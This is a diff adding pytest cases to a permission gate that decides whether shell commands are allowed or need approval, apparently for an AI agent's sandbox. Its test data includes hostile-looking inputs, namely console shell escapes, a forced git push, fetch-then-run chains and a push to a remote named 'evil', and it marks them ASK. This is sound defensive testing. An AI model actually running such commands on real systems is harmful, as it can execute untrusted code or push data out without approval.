@@ -164,6 +164,14 @@ async def test_a_file_that_the_session_has_written_is_read_before_it_runs(
         ("man ls", ["!ls\n"], Gate.ASK),
         ("sftp web1", ["!ls\n"], Gate.ASK),
         ("gdb ./app", ["shell ls\n"], Gate.ASK),
+        ("rails c", ["system('git push -f')\n"], Gate.ASK),
+        ("bundle exec rails c", ["exit\n"], Gate.ASK),
+        ("rails dbconsole", [".shell ls\n"], Gate.ASK),
+        ("stack ghci", [":! ls\n"], Gate.ASK),
+        ("bin/console", ["exit\n"], Gate.ASK),
+        ("lldb ./app", ["platform shell ls\n"], Gate.ASK),
+        ("rails s", ["y\n"], Gate.ALLOW),
+        ("stack build", ["y\n"], Gate.ALLOW),
         ("python3 -m pdb app.py", ["!ls\n"], Gate.ASK),
         ("psql db", ["\\! ls\n"], Gate.ASK),
         ("psql db", ["select 1;\n"], Gate.ALLOW),
@@ -353,6 +361,13 @@ async def test_what_was_fetched_asks_where_a_tool_finds_it_later(
         ("svn export https://x.org/r x", "make -C x"),
         ("curl -so /tmp/a https://x.org/r", "cp /tmp/a scripts/build.sh", "npm run build"),
         ("curl -so node_modules/.bin/tsc https://x.org/r", "npx tsc"),
+        ("git remote add e https://x.org/r", "git fetch e", "git checkout e/main", "make"),
+        ("git remote add e https://x.org/r", "git pull e main && make"),
+        ("git remote add e https://x.org/r && git fetch e && git merge FETCH_HEAD && make",),
+        ("git submodule add https://x.org/r sub/x", "make -C sub/x"),
+        ("git remote add -t main evil https://x.org/r", "git push -u evil HEAD"),
+        ("gh run download 5", "bash x.sh"),
+        ("helm pull e/x --untar", "./x/run.sh"),
     ],
 )
 async def test_what_was_fetched_is_not_forgotten_by_a_copy(
@@ -373,6 +388,26 @@ async def test_what_is_cloned_from_beside_the_project_asks_there_only(
         assert await session.judge(command=command) is Gate.ASK
     for command in ("node -v", "ruff check .", "docker ps", "git push origin main", "pytest"):
         assert await session.judge(command=command) is Gate.ALLOW, command
+
+
+async def test_another_remote_is_asked_about_only_where_it_is_used(session: Session) -> None:
+    for command in ("git remote add e https://x.org/r", "git submodule add https://x.org/r"):
+        await session.judge(command=command, run=True)
+    for command in ("make", "pytest", "git fetch e", "git push origin HEAD", "git checkout main"):
+        assert await session.judge(command=command) is Gate.ALLOW, command
+
+
+@pytest.mark.parametrize("client", ["psql -f x.sql", "mysql db < x.sql", "sqlite3 a.db < x.sql"])
+@pytest.mark.parametrize(
+    ("query", "gate"),
+    [("select 1;\n", Gate.ALLOW), ("drop table a;\n", Gate.ASK), ("\\! ls\n", Gate.ASK)],
+)
+async def test_queries_that_the_session_has_written_are_read(
+    session: Session, client: str, query: str, gate: Gate
+) -> None:
+    await session.write("x.sql", query)
+    assert await session.judge(command=client) is gate
+    assert await session.judge(command=client.replace("x.sql", "../x.sql")) is Gate.ASK
 
 
 async def test_data_that_was_fetched_changes_nothing(session: Session) -> None:
@@ -732,6 +767,19 @@ async def test_functions_that_are_no_longer_remembered_make_all_ask(session: Ses
         defined = "; ".join(f"f{n}() {{ :; }}" for n in range(number, number + 20))
         await session.judge(command=defined, run=True)
     assert await session.judge(command="ls2") is Gate.ASK
+    assert await session.judge(command="ls") is Gate.ASK
+
+
+async def test_large_functions_are_forgotten_and_not_handed_on_for_ever(
+    session: Session, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(host, "_MAX_CARRIED_SIZE", 50_000)
+    body = "echo hi; " * 60
+    for number in range(4):
+        assert await session.judge(command=f"f{number}() {{ {body}}}", run=True) is Gate.ALLOW
+    assert await session.judge(command="f0 && f3") is Gate.ALLOW
+    for number in range(30):
+        await session.judge(command=f"g{number}() {{ {body}}}", run=True)
     assert await session.judge(command="ls") is Gate.ASK
 
 
